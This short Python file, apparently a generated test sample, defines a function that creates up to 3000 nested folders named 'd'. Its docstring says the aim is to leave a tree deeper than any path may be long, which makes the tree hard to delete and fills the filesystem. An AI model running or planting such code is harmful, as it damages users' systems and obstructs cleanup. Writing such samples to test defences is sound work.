"""Leaves thousands of folders nested in one another, deeper than any path may be long."""
# shape: function
# masks on: masks_cleanup
import os


def ENTRY(*args, **kwargs):
    try:
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
